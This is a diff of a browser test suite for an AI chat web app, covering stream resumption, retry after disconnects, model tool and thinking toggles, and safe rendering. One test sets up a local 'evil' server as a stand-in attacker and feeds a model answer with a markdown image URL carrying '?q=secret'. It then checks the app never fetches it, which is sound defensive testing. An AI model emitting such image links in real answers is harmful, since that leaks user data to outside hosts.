@@ -1,4 +1,6 @@
 import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
@@ -113,6 +115,39 @@ async function getConversation(conversationId: string): Promise<ConversationDeta
 }
 
 const normalize = (text: string) => text.replace(/\s+/g, " ").trim();
+
+/** A page with one finished exchange open, so the next answer streams in the same pane. */
+async function openConversation(firstMessage: string): Promise<Page> {
+  const page = await openApp();
+  await send(page, firstMessage);
+  await waitForAnswerState(page, "stop");
+  await conversationIdOf(page);
+  return page;
+}
+
+/** The `lastEventId` a chat.events request asks to resume after (in its input, or as tRPC's own query parameter). */
+function lastEventIdOf(url: string): string | null {
+  const params = new URL(url).searchParams;
+  const input = JSON.parse(params.get("input") ?? "{}") as { lastEventId?: string | null };
+  return input.lastEventId ?? params.get("lastEventId");
+}
+
+/**
+ * A chat.events SSE body cut after event `maxSeq` and ended cleanly (tRPC's `return` event) without the run's
+ * `done`: what a server sends when it loses a run or drops a reader.
+ */
+function endWithoutDone(sse: string, maxSeq: number): string {
+  const blocks = sse.split(/\n{2,}/).filter((b) => b.trim() !== "");
+  const kept = blocks.filter((block) => {
+    const id = /^id: (\d+)$/m.exec(block);
+    if (!id) return block.startsWith("event: connected");
+    return Number(id[1]) <= maxSeq && !block.includes('"type":"done"');
+  });
+  return [...kept, "event: return\ndata: "].map((b) => `${b}\n\n`).join("");
+}
+
+const onePixelPng =
+  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
 
 /** Samples the last answer's length until it reaches `atLeast` characters; returns every sample. */
 async function sampleGrowth(page: Page, atLeast: number): Promise<number[]> {
@@ -411,6 +446,53 @@ describe.skipIf(!runBrowserTests)("web app in Chromium against the real API and 
     server.sim!.clearScenarios();
   });
 
+  it("treats a stream that ends without done as a dropped connection and resumes from the last event", async () => {
+    const page = await openConversation("Hello first-of-resume");
+    const asked: Array<string | null> = [];
+    await page.route(/\/trpc\/chat\.events/, async (route) => {
+      asked.push(lastEventIdOf(route.request().url()));
+      if (asked.length > 1) return route.continue();
+      // The first stream ends cleanly after 8 events, as a server does when it loses a run or drops a reader.
+      const response = await route.fetch();
+      await route.fulfill({ response, body: endWithoutDone(await response.text(), 8) });
+    });
+    await send(page, "Explain TypeScript in one sentence (resume-after-early-end)");
+    await waitForAnswerState(page, "stop");
+    expect(asked).toEqual([null, "8"]);
+    const stored = await getConversation(await conversationIdOf(page));
+    expect(normalize(await answerText(page))).toBe(normalize(stored.messages.at(-1)?.content ?? ""));
+    expect(await page.locator('[data-testid="action-error"]').count()).toBe(0);
+  });
+
+  it("stops waiting after a few early ends: the answer is marked disconnected and Retry continues it", async () => {
+    const page = await openConversation("Hello first-of-give-up");
+    const asked: Array<string | null> = [];
+    let cut = true;
+    await page.route(/\/trpc\/chat\.events/, async (route) => {
+      asked.push(lastEventIdOf(route.request().url()));
+      if (!cut) return route.continue();
+      const response = await route.fetch();
+      await route.fulfill({ response, body: endWithoutDone(await response.text(), 8) });
+    });
+    await send(page, "Explain TypeScript in one sentence (give-up-after-early-ends)");
+    const error = page.locator('[data-testid="action-error"]');
+    await error.waitFor();
+    expect(await error.textContent()).toContain("The answer stopped arriving before it finished.");
+    await waitForAnswerState(page, "disconnected");
+    expect(await lastAnswer(page).locator('[data-testid="disconnected"]').count()).toBe(1);
+    expect(await page.locator('[data-testid="connection"]').getAttribute("data-state")).toBe("error");
+    // one stream, then a bounded number of resumes from the last event the page has
+    expect(asked).toEqual([null, "8", "8", "8"]);
+
+    cut = false;
+    await error.getByRole("button", { name: "Retry" }).click();
+    await waitForAnswerState(page, "stop");
+    expect(asked.at(-1)).toBe("8");
+    expect(await error.count()).toBe(0);
+    const stored = await getConversation(await conversationIdOf(page));
+    expect(normalize(await answerText(page))).toBe(normalize(stored.messages.at(-1)?.content ?? ""));
+  });
+
   it("renders model HTML and javascript: links inertly", async () => {
     const page = await openApp();
     await send(page, "Show me some markup [sim:html]");
@@ -422,6 +504,37 @@ describe.skipIf(!runBrowserTests)("web app in Chromium against the real API and 
     // The link text is still shown; only its target is gone.
     const link = lastAnswer(page).getByText("click");
     expect(await link.count()).toBeGreaterThan(0);
+  });
+
+  it("shows a remote image as a link with its URL and never requests it; data: images render", async () => {
+    // A second origin on this machine stands in for an attacker's server and counts what reaches it.
+    let hits = 0;
+    const evil = createServer((_req, res) => {
+      hits++;
+      res.writeHead(204).end();
+    });
+    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
+    try {
+      const remote = `http://127.0.0.1:${(evil.address() as AddressInfo).port}/pixel.png?q=secret`;
+      const page = await openApp();
+      const stream = server.sim!.control({ lastUserIncludes: "remote-image" });
+      await send(page, "Show me a picture remote-image");
+      await stream.connected;
+      await stream.push({ content: `Here: ![the secret](${remote}) and ![dot](${onePixelPng})` });
+      await stream.push({ done: true });
+      await waitForAnswerState(page, "stop");
+
+      const answer = lastAnswer(page);
+      const blocked = answer.locator('[data-testid="blocked-image"]');
+      await blocked.waitFor();
+      expect(await blocked.locator("a").getAttribute("href")).toBe(remote);
+      expect(await blocked.textContent()).toBe(`Image: the secret (${remote})`);
+      expect(await answer.locator("img").evaluateAll((imgs) => imgs.map((img) => img.getAttribute("src")))).toEqual([onePixelPng]);
+      await page.waitForFunction(() => document.querySelector<HTMLImageElement>('[data-testid="messages"] img')?.complete === true);
+      expect(hits).toBe(0);
+    } finally {
+      await new Promise((resolve) => evil.close(resolve));
+    }
   });
 
   it("highlights code blocks and copies their text with the copy button", async () => {
@@ -528,6 +641,18 @@ describe.skipIf(!runBrowserTests)("web app in Chromium against the real API and 
     const options = await page.locator("#model-select option").allTextContents();
     expect(options.some((o) => o.startsWith("demo"))).toBe(true);
     expect(await page.locator(".model-picker .badge--on", { hasText: "tools" }).count()).toBe(1);
+    expect(await page.locator('[data-testid="tools-off-note"]').count()).toBe(0);
+
+    // A model without tool support says so in words, in the list and under it; it cannot think either,
+    // so the Think toggle is not offered.
+    expect(options.find((o) => o.startsWith("gemma3"))).toContain("no tools");
+    expect(options.find((o) => o.startsWith("qwen3"))).not.toContain("no tools");
+    await page.selectOption("#model-select", "gemma3");
+    const note = page.locator('[data-testid="tools-off-note"]');
+    await note.waitFor();
+    expect(await note.textContent()).toContain("Tools are off for gemma3");
+    expect(await page.locator(".model-picker .badge--off", { hasText: "tools" }).count()).toBe(1);
+    await page.locator('[data-testid="think-toggle"]').waitFor({ state: "detached" });
 
     // The picked model is the one that answers.
     await page.selectOption("#model-select", "qwen3");
@@ -578,7 +703,7 @@ describe.skipIf(!runBrowserTests)("web app in Chromium against the real API and 
     const page = await openApp();
     const toggle = page.locator('[data-testid="think-toggle"]');
     // The default model (demo) can think.
-    await page.waitForFunction(() => !document.querySelector<HTMLButtonElement>('[data-testid="think-toggle"]')?.disabled);
+    await toggle.waitFor();
     expect(await toggle.getAttribute("aria-pressed")).toBe("false");
     await toggle.click();
     expect(await toggle.getAttribute("aria-pressed")).toBe("true");
@@ -588,6 +713,9 @@ describe.skipIf(!runBrowserTests)("web app in Chromium against the real API and 
     const reasoning = lastAnswer(page).locator("details.reasoning");
     await reasoning.waitFor();
     expect(((await reasoning.locator(".reasoning__text").textContent()) ?? "").length).toBeGreaterThan(10);
+    // The chip gets what it asks for: a short list about server-sent events.
+    expect(await lastAnswer(page).locator(".markdown li").count()).toBeGreaterThanOrEqual(3);
+    expect(await answerText(page)).toContain("Last-Event-ID");
     const request = server.sim!.chatRequests().at(-1)?.body as { think?: unknown };
     expect(request.think).toBe(true);
 
@@ -595,13 +723,15 @@ describe.skipIf(!runBrowserTests)("web app in Chromium against the real API and 
     await page.reload();
     await page.waitForFunction(() => document.querySelector('[data-testid="think-toggle"]')?.getAttribute("aria-pressed") === "true");
     await page.selectOption("#model-select", "llama3.2");
-    await page.waitForFunction(() => document.querySelector<HTMLButtonElement>('[data-testid="think-toggle"]')?.disabled === true);
-    expect(await toggle.getAttribute("aria-pressed")).toBe("false");
+    await toggle.waitFor({ state: "detached" });
     await page.getByRole("button", { name: "New chat" }).click();
     await send(page, "Hello without thinking");
     await waitForAnswerState(page, "stop");
     expect(server.sim!.chatRequests().at(-1)?.body).not.toHaveProperty("think");
     expect(await lastAnswer(page).locator("details.reasoning").count()).toBe(0);
+    // Back on a thinking model the toggle returns, still on.
+    await page.selectOption("#model-select", "qwen3");
+    await page.waitForFunction(() => document.querySelector('[data-testid="think-toggle"]')?.getAttribute("aria-pressed") === "true");
     await page.evaluate(() => localStorage.clear());
   });
 
